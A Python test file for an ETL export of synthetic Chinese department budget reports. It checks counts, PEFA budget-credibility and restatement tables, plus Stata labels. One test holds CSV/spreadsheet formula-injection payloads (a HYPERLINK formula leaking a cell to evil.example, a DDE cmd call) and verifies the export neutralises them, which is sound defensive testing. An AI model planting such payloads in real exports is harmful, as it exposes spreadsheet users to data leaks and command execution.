"""Issue 21's measures in `juesuan export`: `counts`, the region-year PEFA table and the restatement table,
each checked against something computed another way — never against the export's own Parquet:

  counts                     the generator's truth JSON (`counts`: kind, scope, value, unit per report), read
                             back from counts.csv (--lang en) and from counts.xlsx (default zh: Chinese headers
                             and value labels decoded with the declaration alone)
  budget_credibility_region  recomputed here from the exported department-year rows (budget_credibility.csv)
                             as sql/165 documents it: the balanced set (departments, never units, with a PI-1 in
                             every year the region has), PI-1 of the sums, PI-2.1 by department, the PEFA bands,
                             the 2-of-3-years score and its n of years
  prior_year_restatements    restated exactly where the generator planted a restated prior year (truth
                             `prior_year_restated`) whose prior report is in the corpus

The corpus: one district, four departments, 2020–2022, no injected inconsistency (the generator's
restatements are planted per department-year: 人力资源和社会保障局 2022 restates a year that is in the
corpus, 公安分局 2020 one that is not; 教育局 2022 prints no 年初预算, so 教育局 is outside the balanced set).
A formula-like counts sentence (hand-built Parquet) comes out inert in CSV and xlsx.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import polars as pl
import pyarrow as pa
import pyreadstat
import pytest

from etl.analysis.export import export
from etl.analysis.export_schema import export_tables
from etl.sample import catalog as cat
from etl.sample.corpus import _write
from etl.sample.document import generate
from etl.sample.layout import choose_layout

REPO = Path(__file__).resolve().parents[1]
SEED = 5
DEPARTMENTS = ("财政局", "教育局", "公安分局", "人力资源和社会保障局")
YEARS = (2020, 2021, 2022)
TABLES = export_tables()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("measures")
    raw, pq = root / "raw", root / "pq"
    city, district, street = cat.REGIONS[0]
    types = {d.key: d for d in cat.DEPT_TYPES}
    truths = []
    for key in DEPARTMENTS:
        for year in YEARS:
            lay = choose_layout(SEED, city, city + district, year, key, {"inconsistency": None})
            g = generate(SEED, city, district, street, types[key], year, lay)
            _write(raw / (city + district), g.file_name, g.pdf, g.truth)
            truths.append(g.truth)
    run = subprocess.run([sys.executable, "-m", "etl.cli", "etl", str(raw), "--out", str(pq)], capture_output=True,
                         text=True, cwd=REPO, timeout=900)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    export(pq, root / "en", ("csv", "dta"), lang="en")
    export(pq, root / "zh", ("xlsx",))
    return {"truths": truths, "en": root / "en", "zh": root / "zh", "pq": pq}


def read_csv(path: Path) -> list[dict]:
    """A --lang en CSV as dicts of strings ('' for an empty cell)."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def read_xlsx(path: Path, name: str) -> list[dict]:
    """A default (zh) xlsx sheet decoded with the declaration alone: Chinese headers back to variable names,
    Chinese value labels back to the stored values."""
    table = TABLES[name]
    rows = list(openpyxl.load_workbook(path, read_only=True)[name].iter_rows(values_only=True))
    assert list(rows[0]) == [c.label for c in table.columns]
    back = {c.name: {lab: v for v, lab in c.values} for c in table.columns if c.values}
    return [{c.name: back[c.name].get(v, v) if c.name in back and v is not None else v
             for c, v in zip(table.columns, r, strict=True)} for r in rows[1:]]


def num(text: str) -> float | None:
    return None if text == "" else float(text)


# -- counts ------------------------------------------------------------------------------------------

def truth_counts(truths) -> dict[str, list[tuple]]:
    return {t["source_file"]: sorted((r["kind"], r["scope"] or "", float(r["value"]), r["unit"]) for r in t["counts"])
            for t in truths}


def test_counts_csv_equals_the_truth_of_every_report(corpus):
    rows = read_csv(corpus["en"] / "counts.csv")
    got: dict[str, list[tuple]] = {}
    for r in rows:
        got.setdefault(r["source_file"], []).append((r["kind"], r["scope"], float(r["value"]), r["unit"]))
    want = truth_counts(corpus["truths"])
    assert sum(len(v) for v in want.values()) > 100
    assert {k: sorted(v) for k, v in got.items()} == {k: v for k, v in want.items() if v}
    by_file = {t["source_file"]: t for t in corpus["truths"]}
    for r in rows:   # who and when in front, as in every long table, and where the figure was read
        t = by_file[r["source_file"]]
        assert (r["region"], r["department"], int(r["year"])) == (t["region"], t["department"], t["year"])
        assert r["department_id"].startswith(t["region"] + "/") and int(r["page"]) >= 1 and r["sentence"]


def test_counts_sentence_and_page_are_the_parsed_rows(corpus):
    """The sentence each figure was read from and its page, as the ETL's counts table holds them."""
    parsed = pl.read_parquet(sorted((corpus["pq"]).rglob("counts.parquet"))[-1])
    want = sorted((r["doc_id"], r["kind"], r["scope"] or "", r["sentence"], r["page"])
                  for r in parsed.iter_rows(named=True))
    got = sorted((r["doc_id"], r["kind"], r["scope"], r["sentence"], int(r["page"]))
                 for r in read_csv(corpus["en"] / "counts.csv"))
    assert got == want


def test_counts_xlsx_in_chinese_equals_the_truth(corpus):
    rows = read_xlsx(corpus["zh"] / "counts.xlsx", "counts")
    got: dict[str, list[tuple]] = {}
    for r in rows:
        got.setdefault(r["source_file"], []).append((r["kind"], r["scope"] or "", float(r["value"]), r["unit"]))
    want = truth_counts(corpus["truths"])
    assert {k: sorted(v) for k, v in got.items()} == {k: v for k, v in want.items() if v}
    kinds = {c.name: c for c in TABLES["counts"].columns}["kind"].values
    header = next(openpyxl.load_workbook(corpus["zh"] / "counts.xlsx", read_only=True)["counts"].iter_rows(
        max_row=2, values_only=True))
    assert "计数项目" in header and "计量单位" in header and "原文句子" in header
    assert dict(kinds)["vehicles_held"] == "公务用车保有量（辆）"


# -- budget_credibility_region -------------------------------------------------------------------------

def pi1_band(pct: float) -> str:
    pct = round(pct, 6)
    return "A" if 95 <= pct <= 105 else "B" if 90 <= pct <= 110 else "C" if 85 <= pct <= 115 else "D"


def pi2_band(pct: float) -> str:
    pct = round(pct, 6)
    return "A" if pct < 5 else "B" if pct < 10 else "C" if pct < 15 else "D"


def score_2of3(bands: list[str | None]) -> str | None:
    """The band met in at least two of three years: the second best; None unless all three are set."""
    return sorted(bands)[1] if len(bands) == 3 and None not in bands else None


def expected_region_rows(department_rows: list[dict]) -> list[dict]:
    """sql/165 by hand: per region, the departments with a PI-1 in every year the region has department-years
    (department reports only); per year PI-1 of the sums and PI-2.1 with one line per department."""
    out = []
    for region in sorted({r["region"] for r in department_rows}):
        rows = [r for r in department_rows if r["region"] == region and r["report_scope"] == "department"]
        years = sorted({int(r["year"]) for r in rows})
        has_pi1 = {(r["department_id"], int(r["year"])) for r in rows if r["pi1_outturn_pct"] != ""}
        balanced = sorted({d for d, _ in has_pi1 if all((d, y) in has_pi1 for y in years)})
        bands: dict[int, tuple] = {}
        for year in years:
            lines = [(float(r["initial_budget"]), float(r["actual"])) for r in rows
                     if int(r["year"]) == year and r["department_id"] in balanced]
            if not lines:
                continue
            b, a = sum(x for x, _ in lines), sum(y for _, y in lines)
            assert len(lines) <= 20   # no merged rest line in this corpus
            pi2 = 100 * sum(abs(y - x * a / b) for x, y in lines) / a if len(lines) >= 2 else None
            row = {"region": region, "year": year, "departments": len(lines), "balanced_first_year": years[0],
                   "balanced_last_year": years[-1], "initial_budget": round(b, 2), "actual": round(a, 2),
                   "pi1_outturn_pct": 100 * a / b, "pi1_band": pi1_band(100 * a / b), "pi2_lines": len(lines),
                   "pi2_variance_pct": pi2, "pi2_band": None if pi2 is None else pi2_band(pi2)}
            bands[year] = (row["pi1_band"], row["pi2_band"])
            window = [bands.get(y, (None, None)) for y in (year - 2, year - 1, year)]
            for i, pi in enumerate(("pi1", "pi2")):
                row[f"{pi}_score_3y"] = score_2of3([w[i] for w in window])
                row[f"{pi}_years"] = sum(w[i] is not None for w in window)
            out.append(row)
    return out


def test_department_rows_behind_the_region_table_are_pefa_on_the_truth(corpus):
    got = {(r["department"], int(r["year"])): r for r in read_csv(corpus["en"] / "budget_credibility.csv")}
    for t in corpus["truths"]:
        gpb = t.get("gpb_budget_execution") or {}
        row = got[(t["department"], t["year"])]
        if gpb.get("initial_budget"):
            assert float(row["pi1_outturn_pct"]) == pytest.approx(100 * gpb["actual"] / gpb["initial_budget"])
        else:
            assert row["pi1_outturn_pct"] == ""


def test_region_year_pefa_is_recomputed_from_the_department_year_rows(corpus):
    want = expected_region_rows(read_csv(corpus["en"] / "budget_credibility.csv"))
    got = read_csv(corpus["en"] / "budget_credibility_region.csv")
    assert [(r["region"], int(r["year"])) for r in got] == [(w["region"], w["year"]) for w in want]
    assert want and all(w["departments"] >= 2 for w in want)
    for g, w in zip(got, want, strict=True):
        for name, value in w.items():
            if isinstance(value, float):
                assert num(g[name]) == pytest.approx(value, abs=1e-6), name
            elif isinstance(value, int):
                assert int(g[name]) == value, name
            else:
                assert (g[name] or None) == value, name
    assert any(w["pi1_score_3y"] for w in want) and any(not w["pi1_score_3y"] for w in want)


def test_region_balanced_set_leaves_out_a_department_missing_a_year(corpus):
    rows = read_csv(corpus["en"] / "budget_credibility.csv")
    missing = {r["department_id"] for r in rows if r["pi1_outturn_pct"] == ""}
    assert missing, "the corpus should have a department-year without a 年初预算"
    with_pi1 = {r["department_id"] for r in rows} - missing
    region = read_csv(corpus["en"] / "budget_credibility_region.csv")
    assert {int(r["departments"]) for r in region} == {len(with_pi1)}


# -- prior_year_restatements ------------------------------------------------------------------------

def test_restatements_flag_exactly_the_planted_ones(corpus):
    present = {(t["department"], t["year"]) for t in corpus["truths"]}
    planted = [(t["department"], t["year"], p) for t in corpus["truths"] for p in t.get("prior_year_restated", [])]
    comparable = [(d, y, p) for d, y, p in planted if (d, y - 1) in present]
    assert comparable and len(comparable) < len(planted)   # one restates a year in the corpus, one a year outside
    rows = read_csv(corpus["en"] / "prior_year_restatements.csv")
    flagged = {(r["department"], int(r["year"]), r["scope"]): (float(r["stated_prior"]), float(r["reported_prior"]))
               for r in rows if r["restated"] == "true"}
    assert len(flagged) == sum(r["restated"] == "true" for r in rows)
    assert flagged == {(d, y, p["scope"]): pytest.approx((p["stated_prior"], p["reported_prior"]))
                       for d, y, p in comparable}
    for r in rows:   # every other compared statement agrees with last year's own report, within rounding
        assert (r["restated"] == "true") == (r["within_rounding"] == "false")
        assert int(r["prior_year"]) == int(r["year"]) - 1 and r["prior_source_file"] and r["sentence"]
    assert sum(r["restated"] == "false" for r in rows) >= 5 * len({r["department_id"] for r in rows})


# -- Stata ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["counts", "budget_credibility_region", "prior_year_restatements"])
def test_new_tables_in_stata_have_valid_names_labels_and_value_labels(corpus, name):
    table = TABLES[name]
    df, meta = pyreadstat.read_dta(corpus["en"] / f"{name}.dta", output_format="polars")
    assert meta.column_names == table.column_names
    assert all(len(n) <= 32 and n.isascii() for n in meta.column_names)
    assert meta.column_names_to_labels == {c.name: c.label for c in table.columns}
    assert all(len(c.label) <= 80 for c in table.columns)
    assert df.height == len(read_csv(corpus["en"] / f"{name}.csv")) > 0
    for c in table.columns:
        if c.values:
            assert meta.variable_value_labels[c.name] == {i: lab for i, (_, lab) in enumerate(c.values, 1)}
        elif pa.types.is_boolean(c.type):
            assert meta.variable_value_labels[c.name] == {0: "否", 1: "是"}


# -- untrusted text ---------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "－1＋2",
            "-2+3")


def test_a_formula_in_a_counts_sentence_comes_out_inert(tmp_path):
    from etl.analysis.synthetic import write_tables
    from tests.test_export import SNAPSHOT, fixture_rows

    rows = fixture_rows()
    rows["counts"] = [dict(doc_id="a1", kind="vehicles_held", value=3.0 + i, unit="辆", scope=None,
                           sentence=text + "\x1b[2J", page=20 + i) for i, text in enumerate(FORMULAS)]
    pq = tmp_path / "pq"
    write_tables(pq / "snapshots" / SNAPSHOT, rows)
    (pq / "CURRENT").write_text(SNAPSHOT, encoding="ascii")
    export(pq, tmp_path / "out", ("csv", "xlsx"))
    label = {c.name: c.label for c in TABLES["counts"].columns}["sentence"]
    with open(tmp_path / "out" / "counts.csv", encoding="utf-8-sig", newline="") as f:
        cells = [r[label] for r in csv.DictReader(f)]
    inert = ["'" + text + "[2J" for text in FORMULAS]              # a leading ', the escape character dropped
    assert cells == inert
    ws = openpyxl.load_workbook(tmp_path / "out" / "counts.xlsx")["counts"]
    col = [c.value for c in ws[1]].index(label) + 1
    xlsx = [ws.cell(r, col) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in xlsx] == inert
    assert all(c.data_type == "s" for c in xlsx)                 # text, never a formula
    assert json.dumps([c.value for c in xlsx])                    # plain strings


def test_every_kind_the_counts_table_documents_has_a_chinese_label():
    """A kind without a declared label would stop the export (check_values): the kinds etl/schema.py documents
    for counts.kind and those of our transcription of the real reports are all declared, and no other."""
    import re

    from etl.schema import TABLES as PARQUET_TABLES

    documented = next(c for c in PARQUET_TABLES["counts"].columns if c.name == "kind").description
    declared = {v for v, _ in next(c for c in TABLES["counts"].columns if c.name == "kind").values}
    assert set(re.findall(r"\b[a-z]+(?:_[a-z0-9]+)+\b", documented)) == declared
    real = json.loads((REPO / "tests" / "real_counts.json").read_text(encoding="utf-8"))
    assert {r["kind"] for d in real["documents"].values() for r in d["counts"]} <= declared
